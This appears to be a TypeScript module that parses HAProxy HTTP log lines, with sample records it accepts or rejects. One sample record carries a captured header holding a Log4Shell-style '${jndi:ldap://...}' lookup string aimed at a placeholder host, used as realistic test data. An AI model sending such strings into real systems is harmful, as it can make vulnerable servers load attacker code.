import { readTime } from '../time/read-time.ts'
import { addressOf } from './address-of.ts'
import type { LogFormat } from './format.ts'
import { requestOf } from './quoted-fields.ts'

/** What HAProxy logs of a request (`option httplog`) behind the header of syslog; captured headers stand in braces. */
export const haproxy: LogFormat = {
  id: 'haproxy',
  summary: 'HAProxy (`option httplog`, `option httpslog`), captured headers one by one',
  definedBy: 'https://docs.haproxy.org/2.8/configuration.html#8.2.3',
  examples: {
    reads: [
      {
        record:
          '203.0.113.9:33317 [12/Dec/2021:04:25:41.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 {example.com|${jndi:ldap://x.example/a}} {} "GET /index.html HTTP/1.1"',
        when: '2021-12-12T04:25:41.655Z',
        from: '203.0.113.9',
        request: 'GET /index.html',
      },
      {
        record:
          '::ffff:203.0.113.9:33317 [12/Dec/2021:04:25:41.655] http-in~ http-in/<NOSRV> -1/-1/-1/-1/0 400 0 - - PR-- 1/1/0/0/0 0/0 "<BADREQ>"',
        when: '2021-12-12T04:25:41.655Z',
        from: '203.0.113.9',
        request: '<BADREQ>',
      },
    ],
    refuses: [
      '203.0.113.9:33317 [12/Dec/2021:04:25:41.655] http-in',
      '203.0.113.9 - - [12/Dec/2021:04:25:41 +0000] "GET /"',
    ],
  },
  read({ text }, { around }) {
    const head =
      /^([\da-fA-F.:]{3,50}):\d{1,5} \[(\d\d\/[A-Z][a-z]{2}\/\d{4}:\d\d:\d\d:\d\d\.\d{3})\] \S{1,255} [^\s/]{1,255}\/\S{1,255} [-+\d]{1,12}(?:\/[-+\d]{1,12}){3,5} -?\d{1,3} \+?\d{1,20} /.exec(
        text,
      )
    if (head === null) return null
    const [whole, client, time = ''] = head
    // Cookies, states, counts and captured headers stand before the request.
    const quote = text.indexOf(' "', whole.length)
    const before = text.slice(whole.length, quote < 0 ? text.length : quote)
    const request = quote < 0 ? '' : text.slice(quote + 2).replace(/"$/, '')
    const braces = before.indexOf('{')
    const captured = braces < 0 ? [] : before.slice(braces).split('|')
    return {
      when: readTime(time, around),
      from: addressOf(client),
      request: requestOf(request),
      userAgent: null,
      fields: [
        { name: 'request', value: request },
        ...captured.slice(0, 64).map((value) => ({ name: 'captured', value })),
        { name: null, value: braces < 0 ? before : before.slice(0, braces) },
      ],
    }
  },
}
